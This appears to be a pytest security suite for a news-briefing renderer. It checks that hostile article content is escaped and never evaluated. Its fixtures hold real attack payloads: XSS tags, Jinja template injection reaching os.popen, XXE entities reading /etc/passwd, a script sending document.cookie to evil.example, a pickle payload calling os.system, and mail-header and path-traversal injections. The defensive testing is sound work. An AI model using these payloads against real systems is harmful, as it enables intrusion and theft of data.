"""Hostile article content is shown, never run: templates are not evaluated,
markup is escaped, unsafe URLs never become links, and rendering reads no
file or host that is not a packaged asset.

One brief is built from hostile inputs of every kind the reader takes (plain
text, Markdown with hostile front matter, an HTML page, an RSS feed) and
rendered to every format once; each test checks one promise on the outputs.
"""

from __future__ import annotations

import email
import html
import os
import re
import stat
from datetime import date
from dataclasses import dataclass, field, replace
from email import policy
from html.parser import HTMLParser
from pathlib import Path

import pypdfium2
import pytest

import briefing.render
import briefing.render.pdf
import briefing.render.view
from briefing.cli import main
from briefing.model import TimelineEntry
from briefing.pipeline import build
from briefing.read import read_inputs
from briefing.render import FORMATS, RenderOptions, output_path, render_bytes
from briefing.render.assets import search_path
from briefing.render.pdf import html_to_pdf

LONG_WORD = "Z" * 3000
PASSWD = Path("/etc/passwd")
PASSWD_LINE = PASSWD.read_text().splitlines()[0] if PASSWD.is_file() else None

HOSTILE_TEXT = f"""ISLAMABAD, April 7, 2021 (Lakeside Courier) - The energy minister wrote {{{{ 7*7 }}}} on the board during the pipeline talks on Monday.

Officials said the gas contract contained {{% for x in range(3) %}}BOOM{{% endfor %}} in its annex, according to the ministry.

Protesters posted <script>alert('xss')</script> on the energy ministry website on Tuesday, officials said.

The gas company page showed <img src=x onerror=alert(1)> after the attack on the pipeline, the ministry said.

Officials said {{{{ config }}}} and {{{{ self.__init__.__globals__ }}}} were printed in the gas contract on Monday.

The pipeline code {LONG_WORD} was published by the energy ministry on Monday.
"""

HOSTILE_FRONT_MATTER = """---
title: <script>alert("title")</script> {{ 7*7 }} pipeline talks
outlet: <img src=x onerror=alert(2)> Post
url: javascript:alert(document.cookie)
date: 2021-04-06
---
The minister shared [the gas deal](javascript:alert(document.cookie)) with reporters in Islamabad on Monday.

The energy minister wrote {{ 7*7 }} on the board during the pipeline talks on Monday, officials said.
"""

# Each unsafe URL and each hostile title rides on a short article: titles and
# URLs of every source are always shown in the brief's source list.
HOSTILE_SOURCES = [
    ("file:///etc/passwd", '<img src="file:///etc/passwd"> Gas talks'),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     '<style>@import url("http://evil.example/x.css"); body { background: url(file:///etc/passwd) }</style> Gas'),
    ("JaVaScRiPt:alert(1)", '<svg><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><text>&xxe;</text></svg> Gas'),
    ("\tjava\tscript:alert(1)", '<a href="javascript:alert(1)">click</a> Gas'),
    ("vbscript:msgbox(1)", "<link rel=stylesheet href=http://evil.example/s.css> Gas"),
    ('https://ok.example/"><script>alert(1)</script>', "Gas talks <b onmouseover=alert(1)>bold</b>"),
]
UNSAFE_URLS = [url for url, _ in HOSTILE_SOURCES if not url.startswith("https:")]

HOSTILE_PAGE = """<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html><head><title>Gas &lt;script&gt;alert(3)&lt;/script&gt; talks</title>
<link rel="stylesheet" href="http://evil.example/steal.css">
<style>@import url("file:///etc/passwd"); body { background: url(http://evil.example/bg.png) }</style>
<script>document.location = "http://evil.example/?c=" + document.cookie</script>
</head><body onload="alert(5)">
<article>
<p>The energy ministers agreed on the gas pipeline route in Islamabad on Monday &xxe; officials said.</p>
<p onclick="alert(6)">Engineers said the text &lt;script&gt;alert(7)&lt;/script&gt; and {{ 7*7 }} appeared on the pipeline site on Monday.</p>
<p>Reporters were told to open <a href="javascript:alert(8)">this link</a> and <img src="file:///etc/passwd" onerror="alert(9)"> for the gas deal on Monday.</p>
<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/><text>&xxe;</text></svg>
</article></body></html>
"""

HOSTILE_FEED = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Wire &xxe;</title>
<item><title>Gas &xxe; deal</title><link>javascript:alert(10)</link><pubDate>Wed, 07 Apr 2021 10:00:00 GMT</pubDate>
<description>The energy ministers said the gas pipeline &xxe; deal was signed in Islamabad on Wednesday.</description></item>
</channel></rss>
"""


def write_inputs(folder: Path) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hostile.txt").write_text(HOSTILE_TEXT)
    (folder / "hostile.md").write_text(HOSTILE_FRONT_MATTER)
    (folder / "page.html").write_text(HOSTILE_PAGE)
    (folder / "wire.rss").write_text(HOSTILE_FEED)
    for number, (url, title) in enumerate(HOSTILE_SOURCES, start=1):
        (folder / f"source{number}.md").write_text(
            f"---\ntitle: {title}\noutlet: Outlet {number}\nurl: {url}\ndate: 2021-04-0{number}\n---\n"
            f"The gas pipeline deal number {number} was signed by the energy ministers in Islamabad, officials said.\n"
        )
    return sorted(str(path) for path in folder.iterdir())


@dataclass
class Rendered:
    brief: object
    outputs: dict[str, bytes]
    pdf_html: str  # the page WeasyPrint laid out
    fetched: list[str] = field(default_factory=list)  # every URL WeasyPrint asked the fetcher for

    def html_of(self, name: str) -> str:
        if name == "pdf-html":
            return self.pdf_html
        if name == "eml-html":
            return part_of(self.outputs["eml"], "text/html")
        return self.outputs[name].decode("utf-8")


def part_of(raw: bytes, content_type: str) -> str:
    message = email.message_from_bytes(raw, policy=policy.default)
    return next(part.get_content() for part in message.walk() if part.get_content_type() == content_type)


def pdf_text(data: bytes) -> str:
    document = pypdfium2.PdfDocument(data)
    return " ".join(" ".join(page.get_textpage().get_text_range().split()) for page in document)


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> Rendered:
    inputs = write_inputs(tmp_path_factory.mktemp("hostile"))
    brief = build(inputs, cache=False, jobs=1)
    # The sources list shows the sources the brief cites: one event citing all of them puts
    # every hostile title and URL on the page.
    everyone = TimelineEntry(date(2021, 4, 7), "Every source reports it.", tuple(a.id for a in brief.sources))
    brief = replace(brief, timeline=(*brief.timeline, everyone))
    fetched: list[str] = []
    pages: list[str] = []
    original_fetch = briefing.render.pdf.AssetFetcher.fetch
    original_html_to_pdf = briefing.render.pdf.html_to_pdf

    def recording_fetch(self, url, headers=None):
        fetched.append(url)
        return original_fetch(self, url, headers)

    def recording_html_to_pdf(page, **kwargs):
        pages.append(page)
        return original_html_to_pdf(page, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(briefing.render.pdf.AssetFetcher, "fetch", recording_fetch)
        patch.setattr(briefing.render.view, "KEY_POINTS", 100)  # every hostile sentence on the page, not the best four
        patch.setattr(briefing.render.pdf, "html_to_pdf", recording_html_to_pdf)
        outputs = {name: render_bytes(brief, name, options=RenderOptions()) for name in FORMATS}
    assert len(pages) == 1
    return Rendered(brief, outputs, pages[0], fetched)


class Elements(HTMLParser):
    """Every start tag with its attributes, the visible text, and the text of <style> elements."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self._open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._open.append(tag)

    def handle_endtag(self, tag):
        if tag in self._open:
            del self._open[len(self._open) - 1 - self._open[::-1].index(tag):]

    def handle_data(self, data):
        (self.styles if self._open and self._open[-1] == "style" else self.text).append(data)

    @property
    def visible(self) -> str:
        return " ".join(" ".join(self.text).split())

    def urls(self) -> list[str]:
        return [value or "" for _, attrs in self.tags for name, value in attrs.items() if name in URL_ATTRIBUTES]


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "srcset", "data"}
HTML_FORMATS = ["html", "email", "eml-html", "pdf-html"]


def scheme_of(url: str) -> str:
    """The scheme a browser would see: control characters and spaces removed first."""
    cleaned = re.sub(r"[\x00-\x20]", "", url).lower()
    match = re.match(r"^([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else ""


def test_the_hostile_payloads_reach_the_brief(rendered):
    """Guard for every test below: the payloads are really in what gets rendered."""
    body = rendered.outputs["json"].decode()
    for payload in ("{{ 7*7 }}", "{% for x in range(3) %}", "<script>alert('xss')</script>", "onerror=alert(1)",
                    "{{ config }}", LONG_WORD, *(title for _, title in HOSTILE_SOURCES)):
        assert payload.replace('"', '\\"') in body, payload
    for url in UNSAFE_URLS:
        assert url.strip().replace("\t", "\\t") in body, url


TEMPLATE_TEXT = {
    "html": lambda r: html.unescape(Elements(r.html_of("html")).visible),
    "email": lambda r: html.unescape(Elements(r.html_of("email")).visible),
    "eml-text": lambda r: " ".join(part_of(r.outputs["eml"], "text/plain").split()),
    "md": lambda r: " ".join(r.outputs["md"].decode().replace("\\", "").split()),
    "json": lambda r: r.outputs["json"].decode(),
    "pdf": lambda r: pdf_text(r.outputs["pdf"]),
}


@pytest.mark.parametrize("name", sorted(TEMPLATE_TEXT))
def test_template_syntax_in_articles_is_shown_literally_never_evaluated(rendered, name):
    text = TEMPLATE_TEXT[name](rendered)
    assert "wrote {{ 7*7 }} on the board" in text
    assert "wrote 49 on" not in text
    assert "{% for x in range(3) %}BOOM{% endfor %}" in text
    assert "BOOMBOOM" not in text
    assert "{{ config }} and {{ self.__init__.__globals__ }}" in text
    assert "<Config" not in text and "__builtins__" not in text


@pytest.mark.parametrize("name", HTML_FORMATS)
def test_markup_in_articles_is_escaped_and_shown_as_text(rendered, name):
    page = Elements(rendered.html_of(name))
    assert not [tag for tag, _ in page.tags if tag in ("script", "iframe", "object", "embed", "link", "base", "form")]
    assert all("chart" in (attrs.get("class") or "") for tag, attrs in page.tags if tag == "svg")  # only our charts
    assert not [(tag, attrs) for tag, attrs in page.tags if any(attr.startswith("on") for attr in attrs)]
    assert not [tag for tag, _ in page.tags if tag in ("img", "image")]  # the brief shows no pictures at all
    visible = page.visible
    assert "Protesters posted <script>alert('xss')</script> on the energy ministry website" in visible
    assert "showed <img src=x onerror=alert(1)> after the attack" in visible
    for _, title in HOSTILE_SOURCES:
        assert " ".join(title.split()) in visible, title
    assert '<script>alert("title")</script> {{ 7*7 }} pipeline talks' in visible
    assert "<img src=x onerror=alert(2)> Post" in visible
    styles = " ".join(page.styles)
    assert "evil.example" not in styles and "passwd" not in styles


@pytest.mark.parametrize("name", [
    "html",
    "email",
    "pdf-html",
])
def test_no_raw_script_text_in_html_outputs(rendered, name):
    page = rendered.html_of(name)
    assert not re.search(r"<\s*script", page, re.IGNORECASE)
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in page or "&lt;script&gt;alert('xss')&lt;/script&gt;" in page


@pytest.mark.parametrize("name", HTML_FORMATS)
def test_unsafe_source_urls_are_shown_but_never_linked(rendered, name):
    page = Elements(rendered.html_of(name))
    schemes = {scheme_of(url) for url in page.urls()}
    assert schemes <= {"", "http", "https", "mailto"}, schemes
    visible = page.visible
    for url in UNSAFE_URLS:
        assert " ".join(url.split()) in visible, url
    safe = [value for tag, attrs in page.tags if tag == "a" for value in [attrs.get("href") or ""] if "ok.example" in value]
    assert len(safe) == 1 and safe[0].startswith("https://ok.example/")  # the one http(s) URL is linked, intact


def test_unsafe_urls_are_not_links_in_markdown(rendered):
    markdown = rendered.outputs["md"].decode()
    unescaped = r"(?<!\\)"
    link_targets = re.findall(unescaped + r"\]\(\s*([^)\s]*)", markdown) + re.findall(unescaped + r"<([a-zA-Z][\w+.-]*:[^>\s]*)>", markdown)
    assert link_targets, "the Markdown links its http(s) sources"
    assert {scheme_of(target) for target in link_targets} <= {"http", "https", "mailto"}
    assert not re.search(unescaped + r"<\s*(script|img|svg|style|a|link|iframe)\b", markdown, re.IGNORECASE)


def test_pdf_rendering_fetches_only_packaged_assets(rendered):
    packaged = [folder.resolve() for folder in search_path(None, "styles")]
    for url in rendered.fetched:
        path = briefing.render.pdf._local_path(url)
        assert path is not None and any(path.is_relative_to(folder) for folder in packaged), url
    assert not [url for url in rendered.fetched if "passwd" in url or "evil.example" in url]


def test_the_fetcher_refuses_what_a_hostile_page_asks_for(caplog):
    """Control for the test above: the recorder sees requests, and the fetcher refuses every one."""
    page = (
        '<html><head><link rel="stylesheet" href="http://evil.example/x.css">'
        '<style>@import url("file:///etc/hostname"); p { background: url(http://evil.example/bg.png) }</style></head>'
        '<body><p>Text</p><img src="file:///etc/passwd"><img src="data:image/svg+xml,'
        '%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22file:///etc/passwd%22/%3E%3C/svg%3E">'
        "</body></html>"
    )
    fetched: list[str] = []
    original = briefing.render.pdf.AssetFetcher.fetch

    def recording(self, url, headers=None):
        fetched.append(url)
        return original(self, url, headers)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(briefing.render.pdf.AssetFetcher, "fetch", recording)
        pdf = html_to_pdf(page, stylesheets=(), style_dirs=tuple(search_path(None, "styles")), tagged=False)
    assert pdf.startswith(b"%PDF")
    assert {"http://evil.example/x.css", "file:///etc/passwd"} <= set(fetched)
    assert all("refused" in line for line in caplog.messages if "evil.example" in line or "/etc/" in line)
    refusals = [line for line in caplog.messages if line.endswith("refused to fetch (only packaged styles may be read)")]
    assert len(refusals) == len(fetched)
    if PASSWD_LINE:
        assert PASSWD_LINE not in pdf_text(pdf)


@pytest.mark.skipif(PASSWD_LINE is None, reason="no /etc/passwd to leak")
def test_no_output_contains_a_local_file(rendered):
    for name, data in rendered.outputs.items():
        text = pdf_text(data) if name == "pdf" else data.decode("utf-8", errors="replace")
        assert PASSWD_LINE not in text, name
    assert PASSWD_LINE not in rendered.pdf_html


@pytest.mark.skipif(PASSWD_LINE is None, reason="no /etc/passwd to leak")
def test_external_entities_in_feeds_and_pages_are_not_expanded(tmp_path):
    inputs = write_inputs(tmp_path / "in")
    result = read_inputs([path for path in inputs if path.endswith((".rss", ".html"))])
    assert len(result.articles) == 2
    for article in result.articles:
        assert PASSWD_LINE not in article.text and "root:" not in (article.title or "") + (article.outlet or "")


def test_very_long_words_stay_on_the_pdf_page(rendered):
    document = pypdfium2.PdfDocument(rendered.outputs["pdf"])
    assert LONG_WORD[:200] in pdf_text(rendered.outputs["pdf"]).replace(" ", "")
    for page in document:
        width, _ = page.get_size()
        text = page.get_textpage()
        right = max((text.get_charbox(index)[2] for index in range(text.count_chars())), default=0)
        assert right <= width


@pytest.mark.parametrize("title", ["../../../etc/passwd", "/etc/passwd", "..", "C:\\Windows\\win.ini", "a/../../b"])
def test_a_title_never_places_an_output_outside_its_folder(rendered, title, tmp_path):
    brief = replace(rendered.brief, title=title)
    for name in FORMATS:
        path = output_path(brief, tmp_path, name)
        assert path.parent == tmp_path and not path.name.startswith(".")


def test_a_title_with_a_line_break_cannot_add_mail_headers(tmp_path, capsys):
    inputs = write_inputs(tmp_path / "in")
    eml = tmp_path / "out.eml"
    code = main(["email", *inputs, "--title", "Gas talks\r\nBcc: victim@example.com", "--to", "desk@example.com",
                 "--from", "unit@example.com", "--eml", str(eml), "--no-cache"])
    err = capsys.readouterr().err
    assert code in (0, 1), err
    if code == 0:
        message = email.message_from_bytes(eml.read_bytes(), policy=policy.default)
        assert message.get_all("Bcc") is None and "\n" not in message["Subject"]


def test_terminal_escape_codes_in_articles_never_reach_the_terminal(tmp_path, capsys):
    story = tmp_path / "story.txt"
    story.write_bytes(
        b"The energy minister \x1b]0;owned\x07signed the gas pipeline deal in Islamabad on Monday.\n\n"
        b"Officials said the \x1b[2Jpipeline would carry gas to Lahore from next year.\n"
    )
    code = main(["summarize", str(story), "--no-cache"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    assert "signed the gas pipeline deal" in captured.out
    assert "\x1b" not in captured.out + captured.err and "\x07" not in captured.out


def test_terminal_escape_codes_in_file_names_never_reach_the_terminal(tmp_path, capsys):
    (tmp_path / "\x1b[2Jempty.txt").write_bytes(b"")
    good = tmp_path / "good.txt"
    good.write_text("The energy minister signed the gas pipeline deal in Islamabad on Monday.\n")
    main(["summarize", str(tmp_path), "--no-cache"])
    err = capsys.readouterr().err
    assert "empty.txt: empty file" in err
    assert "\x1b" not in err


# --- second round (issue 18): spoofed outlets, sandboxed templates, a cache that cannot run code ---


SPOOF_BODY = (
    "The energy ministers of Tarvia and Dovrenia signed the gas pipeline deal in Islamabad on Monday, officials said.\n\n"
    "{n} The pipeline will carry gas from the coast to the capital over 1,100 kilometres from next year.\n"
)


def test_one_outlet_spelled_three_ways_counts_once(tmp_path):
    """A zero-width space, a Cyrillic letter and full-width letters do not make three independent outlets."""
    spellings = ["Meridian Post", "Meri\u200bdian Post", "\u041beridian Post".replace("\u041b", "\u041c"), "\uff2deridian Post"]
    for number, outlet in enumerate(spellings):
        words = ["Reporters", "Observers", "Analysts", "Witnesses"][number]
        (tmp_path / f"copy{number}.md").write_text(
            f"---\ntitle: Deal {number}\noutlet: {outlet}\ndate: 2021-04-0{number + 1}\n---\n" + SPOOF_BODY.format(n=words)
        )
    brief = build([str(tmp_path)], cache=False, jobs=1)
    assert {source.outlet for source in brief.sources} == set(spellings)  # shown as each article wrote it
    claims = [*brief.summary, *(claim for story in brief.stories for claim in story.summary)]
    assert claims and max(claim.agreement for claim in claims) == 1
    assert max(story.agreement for story in brief.stories) == 1
    assert [claim for claim in claims if len({support.source for support in claim.support}) == 4]


def templates_folder(tmp_path: Path, name: str, text: str) -> Path:
    folder = tmp_path / "shared-templates"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text)
    return folder


def test_a_shared_template_cannot_run_commands(rendered, tmp_path):
    marker = tmp_path / "ran"
    folder = templates_folder(tmp_path, "brief.md.j2", f"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}}}\n")
    with pytest.raises(briefing.render.RenderError, match=r"brief\.md\.j2:1: .*not allowed in the template sandbox"):
        render_bytes(rendered.brief, "md", options=RenderOptions(templates_dir=folder))
    assert not marker.exists()


def test_unsafe_templates_give_the_full_language_to_trusted_templates(rendered, tmp_path):
    folder = templates_folder(tmp_path, "brief.md.j2", "{{ cycler.__init__.__globals__.os.sep }}\n")
    with pytest.raises(briefing.render.RenderError):
        render_bytes(rendered.brief, "md", options=RenderOptions(templates_dir=folder))
    assert render_bytes(rendered.brief, "md", options=RenderOptions(templates_dir=folder, unsafe_templates=True)) == b"/\n"


def test_a_planted_cache_entry_is_never_unpickled(tmp_path, monkeypatch):
    """Anyone who can write the cache folder (shared, synced) plants pickles that would run code:
    they are misses, rebuilt, and the build's result is the same."""
    import pickle

    from briefing.cache import ENTRY_MAGIC

    marker = tmp_path / "ran"

    class Payload:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    monkeypatch.setenv("BRIEFING_CACHE_DIR", str(tmp_path / "cache"))
    inputs = write_inputs(tmp_path / "in")
    first = build(inputs, jobs=1)
    entries = [*(tmp_path / "cache").rglob("*.facts"), *(tmp_path / "cache").rglob("*.brief")]
    assert entries
    evil = pickle.dumps(Payload())
    for number, entry in enumerate(entries):  # raw pickles, and pickles dressed as signed entries
        entry.write_bytes(evil if number % 2 else ENTRY_MAGIC + b"\0" * 32 + evil)
    again = build(inputs, jobs=1)
    assert not marker.exists()
    assert again.summary == first.summary


def test_the_cache_key_is_private_and_outside_the_cache(monkeypatch):
    from briefing.cache import cache_key, cache_root, key_path

    assert len(cache_key()) == 32
    assert not key_path().resolve().is_relative_to(cache_root().resolve())
    assert key_path().stat().st_mode & 0o077 == 0


def test_a_user_stylesheet_cannot_make_the_email_call_a_server(rendered, tmp_path):
    styles = tmp_path / "styles"
    styles.mkdir()
    (styles / "email.css").write_text(
        '@import url("http://evil.example/a.css");\n@import "https://evil.example/b.css";\n'
        "body { background: url(http://evil.example/pixel.png) white; color: #222; }\n"
        "h1 { background-image: \\75 rl(//evil.example/escaped.png); }\n"
        "@media screen { p { background: image-set('https://evil.example/set.png' 1x); } }\n"
    )
    page = Elements(render_bytes(rendered.brief, "email", options=RenderOptions(styles_dir=styles)).decode())
    styles_used = [attrs.get("style") or "" for _, attrs in page.tags] + page.styles
    assert not [style for style in styles_used if "evil.example" in style]
    assert [style for style in styles_used if "#222" in style]  # the rest of the stylesheet is kept


def test_right_to_left_overrides_are_isolated_in_html_and_removed_in_text(rendered):
    brief = replace(rendered.brief, sources=tuple(
        replace(source, title=f"Gas \u202eevil\u202c talks {number}", outlet=f"Wire \u202e{number}")
        for number, source in enumerate(rendered.brief.sources)
    ))
    page = render_bytes(brief, "html").decode()
    assert re.search(r"<bdi>Gas \u202eevil\u202c talks 0</bdi>", page)
    assert re.search(r"<bdi[^>]*>Wire \u202e0</bdi>", page)
    for name in ("md", "eml"):
        text = render_bytes(brief, name).decode()
        if name == "eml":
            text = part_of(render_bytes(brief, "eml"), "text/plain")
        assert "\u202e" not in text and "Gas evil talks 0" in text, name


@pytest.mark.parametrize("word", ["A" * 300, "é" * 300, "Z" * 255])
def test_a_very_long_title_gives_a_file_name_the_file_system_takes(rendered, tmp_path, word):
    names = set()
    for title in (word, word + " B"):
        for name in FORMATS:
            path = output_path(replace(rendered.brief, title=title), tmp_path, name)
            assert len(path.name.encode()) <= 255
            names.add(path.name)
        briefing.render.render(replace(rendered.brief, title=title), "json", output_path(replace(rendered.brief, title=title), tmp_path, "json"))
    assert len(names) == 2 * len(FORMATS)  # different long titles stay apart


def test_outputs_never_replace_a_device_a_pipe_or_a_folder(rendered, tmp_path):
    pipe = tmp_path / "pipe.eml"
    os.mkfifo(pipe)
    for target in (pipe, tmp_path):
        with pytest.raises(briefing.render.RenderError, match="cannot write"):
            briefing.render.render(rendered.brief, "json", target)
    assert stat.S_ISFIFO(pipe.stat().st_mode)


def test_an_unwritable_cache_is_one_warning_per_run(tmp_path, capsys, monkeypatch):
    (tmp_path / "cache").mkdir()
    (tmp_path / "cache" / "facts").write_text("")  # every entry's folder fails to be made
    monkeypatch.setenv("BRIEFING_CACHE_DIR", str(tmp_path / "cache"))
    inputs = write_inputs(tmp_path / "in")
    code = main(["summarize", *inputs, "--jobs", "1"])
    err = capsys.readouterr().err.splitlines()
    assert code == 0, err
    assert len([line for line in err if "cannot write the analysis cache" in line]) == 1, err


@pytest.mark.parametrize("where", ["/dev/null", "a-file"])
def test_a_cache_folder_that_is_a_device_or_a_file_is_refused(where, tmp_path, capsys, monkeypatch):
    if where == "a-file":
        where = str(tmp_path / "a-file")
        Path(where).write_text("")
    monkeypatch.setenv("BRIEFING_CACHE_DIR", where)
    inputs = write_inputs(tmp_path / "in")
    code = main(["summarize", *inputs, "--jobs", "1"])
    err = capsys.readouterr().err.splitlines()
    assert code == 1
    assert err[-1] == f"error: BRIEFING_CACHE_DIR: {where} is not a folder (unset it, or use --no-cache)"
    assert main(["summarize", *inputs, "--jobs", "1", "--no-cache"]) == 0
